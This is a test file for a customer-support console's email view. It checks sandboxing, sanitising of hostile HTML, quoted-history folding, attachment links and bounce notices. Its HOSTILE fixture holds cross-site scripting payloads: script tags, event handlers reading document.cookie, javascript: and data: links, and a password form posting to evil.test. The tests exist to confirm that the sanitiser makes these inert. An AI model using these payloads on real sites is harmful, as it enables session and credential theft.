// @vitest-environment happy-dom
// Email on the console's timeline: header, HTML in a sandboxed frame, quoted
// history folded, attachments with size and a download link, bounce.
import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { MessageDto } from '../../src/contracts/index.js';
import { sanitizeEmailHtml } from '../../src/channels/email/sanitize.js';
import { MessageBubble } from '../src/console/conversations/MessageBubble.js';
import { I18nProvider } from '../src/console/i18n/I18nProvider.js';

// The body of tests/fixtures/email/hostile-html.eml, as an attacker would send it.
const HOSTILE = `<html><head><style>body { background: url("https://evil.test/bg.png") }</style>
<meta http-equiv="refresh" content="0;url=https://evil.test/"><script>fetch('/api/users',{method:'POST'})</script></head>
<body onload="alert(1)"><p style="position:fixed;top:0">My complaint is <b>serious</b>.</p>
<img src="x" onerror="alert(document.cookie)"><img src="https://evil.test/track.gif" alt="tracker">
<a href="javascript:alert(1)">click</a><a href="JaVaScRiPt&#58;alert(2)">click2</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a><a href="https://example.test/details">details</a>
<iframe src="https://evil.test/frame"></iframe><form action="https://evil.test/steal"><input name="password"></form>
<svg onload="alert(3)"><circle r="5"></circle></svg></body></html>`;

function email(p: { html?: string | null; body?: string; metadata?: Record<string, unknown>; from?: MessageDto['from']; status?: MessageDto['status'] } = {}): MessageDto {
  return {
    id: 'm1',
    conversationId: 'c1',
    seq: 1,
    channel: 'email',
    from: p.from ?? 'customer',
    authorName: null,
    body: p.body ?? 'text',
    status: p.status ?? 'received',
    statusReason: null,
    at: '2026-11-20T10:00:00Z',
    metadata: {
      attachments: [],
      email: {
        subject: 'Order 10432 has not arrived',
        from: { name: 'Sara Ahmadi', address: 'sara@example.test' },
        to: [{ name: 'Support', address: 'support@pasokh.test' }],
        cc: [{ name: null, address: 'boss@example.test' }],
        html: p.html ?? null,
      },
      ...p.metadata,
    },
  };
}

const show = (m: MessageDto) =>
  render(
    <I18nProvider>
      <ol>
        <MessageBubble message={m} />
      </ol>
    </I18nProvider>,
  );

beforeEach(() => window.localStorage.setItem('pasokh:console:lang', 'en'));
afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

describe('email HTML frame', () => {
  it('is sandboxed without scripts or same-origin, with a CSP that forbids scripts and remote loads', () => {
    show(email({ html: sanitizeEmailHtml(HOSTILE) }));
    const frame = screen.getByTestId('email-frame') as HTMLIFrameElement;
    const sandbox = frame.getAttribute('sandbox');
    expect(sandbox).not.toBeNull();
    expect(sandbox).not.toMatch(/allow-scripts|allow-same-origin|allow-forms|allow-top-navigation/);
    const doc = frame.getAttribute('srcdoc')!;
    expect(doc).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; `);
    expect(doc).not.toMatch(/script-src/);
    expect(frame.title).toBe('Email message: Order 10432 has not arrived');
  });

  it('hostile HTML arrives inert: no script, no handler, no javascript: or data: link, no remote image', () => {
    show(email({ html: sanitizeEmailHtml(HOSTILE) }));
    const doc = (screen.getByTestId('email-frame') as HTMLIFrameElement).getAttribute('srcdoc')!;
    // Parse what the frame will show and look at it as the browser would.
    const parsed = new DOMParser().parseFromString(doc, 'text/html');
    expect(parsed.querySelectorAll('script, iframe, object, embed, form, svg, link').length).toBe(0);
    for (const el of Array.from(parsed.body.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) expect(attr.name.startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false);
    }
    const hrefs = Array.from(parsed.querySelectorAll('a')).map((a) => a.getAttribute('href') ?? '');
    expect(hrefs.filter((h) => /^\s*(javascript|data|vbscript):/i.test(h))).toEqual([]);
    expect(hrefs).toContain('https://example.test/details');
    expect(Array.from(parsed.querySelectorAll('img[src]')).map((i) => i.getAttribute('src'))).toEqual([]);
    expect(parsed.body.textContent).toContain('My complaint is serious.');
  });

  it('inline images are fetched with the agent\'s session and handed to the frame as data: URLs', async () => {
    const id = '0b7c8a2e-1d2f-4c3b-9a8e-7f6d5c4b3a21';
    const requested: string[] = [];
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    vi.stubGlobal('fetch', async (url: string) => {
      requested.push(url);
      return new Response(png, { status: 200, headers: { 'content-type': 'image/png' } });
    });
    show(email({ html: `<p>Logo:</p><img src="/api/email/attachments/${id}" alt="logo">` }));
    const frame = screen.getByTestId('email-frame');
    await waitFor(() => expect(frame.getAttribute('srcdoc')).toContain('src="data:image/png;base64,iVBORw0KGgo='));
    expect(requested).toEqual([`/api/email/attachments/${id}`]);
    expect(frame.getAttribute('srcdoc')).not.toContain('/api/email/attachments/');
  });

  it('folds the quoted history behind a toggle, and shows it on demand', () => {
    const html = '<div>Thanks, that fixed it.</div><div>On Tue, Mar 4, 2025 at 9:30 PM Support wrote:</div><blockquote>Hello Sara, try again.</blockquote>';
    show(email({ html }));
    const frame = () => screen.getByTestId('email-frame').getAttribute('srcdoc')!;
    expect(frame()).toContain('Thanks, that fixed it.');
    expect(frame()).not.toContain('Hello Sara');
    const toggle = screen.getByRole('button', { name: 'Show quoted text' });
    expect(toggle.getAttribute('aria-expanded')).toBe('false');
    fireEvent.click(toggle);
    expect(frame()).toContain('Hello Sara, try again.');
    expect(screen.getByRole('button', { name: 'Hide quoted text' }).getAttribute('aria-expanded')).toBe('true');
  });
});

describe('email header, text, attachments, bounce', () => {
  it('shows subject, from, to and cc, each with dir=auto', () => {
    show(email({ body: 'سلام' }));
    expect(screen.getByTestId('email-subject').textContent).toBe('Order 10432 has not arrived');
    expect(screen.getByTestId('email-from').textContent).toBe('Sara Ahmadi <sara@example.test>');
    expect(screen.getByTestId('email-cc').textContent).toBe('boss@example.test');
    for (const el of [screen.getByTestId('email-subject'), screen.getByTestId('email-from'), screen.getByText('سلام')]) expect(el.getAttribute('dir')).toBe('auto');
  });

  it('a plain-text reply folds "On … wrote:" and its quote', () => {
    show(email({ body: 'Thank you, it works now.\n\nOn Tue, Mar 4, 2025 Support <s@x.test> wrote:\n> Hello Sara' }));
    expect(screen.getByText('Thank you, it works now.')).toBeTruthy();
    expect(screen.queryByTestId('email-quoted')).toBeNull();
    fireEvent.click(screen.getByTestId('email-quote-toggle'));
    expect(screen.getByTestId('email-quoted').textContent).toContain('> Hello Sara');
  });

  it('lists attachments with type, size and a download link through the attachments route; inline images are not listed', () => {
    show(
      email({
        metadata: {
          attachments: [
            { id: 'a1', url: '/api/email/attachments/a1', filename: 'رسید خرید.pdf', contentType: 'application/pdf', size: 52_736, inline: false },
            { id: 'a2', url: '/api/email/attachments/a2', filename: 'logo.png', contentType: 'image/png', size: 900, inline: true },
          ],
        },
      }),
    );
    const items = screen.getAllByTestId('email-attachment');
    expect(items).toHaveLength(1);
    const link = within(items[0]!).getByRole('link', { name: 'رسید خرید.pdf' });
    expect(link.getAttribute('href')).toBe('/api/email/attachments/a1');
    expect(link.hasAttribute('download')).toBe(true);
    expect(items[0]!.textContent).toContain('application/pdf · 51.5 KB');
  });

  it('a bounced reply says so, with the failed status and the reason', () => {
    const m = { ...email({ from: 'agent', status: 'failed', metadata: { bounce: { reason: '550 5.1.1 user unknown', status: '5.1.1' } } }), statusReason: 'bounced: 550 5.1.1 user unknown' };
    show(m);
    expect(screen.getByTestId('email-bounce').textContent).toBe('Not delivered: the recipient’s mail server returned it (status 5.1.1).');
    expect(screen.getByTestId('message-status').textContent).toBe('Failed');
    expect(screen.getByTestId('message-status-reason').textContent).toBe('bounced: 550 5.1.1 user unknown');
  });
});
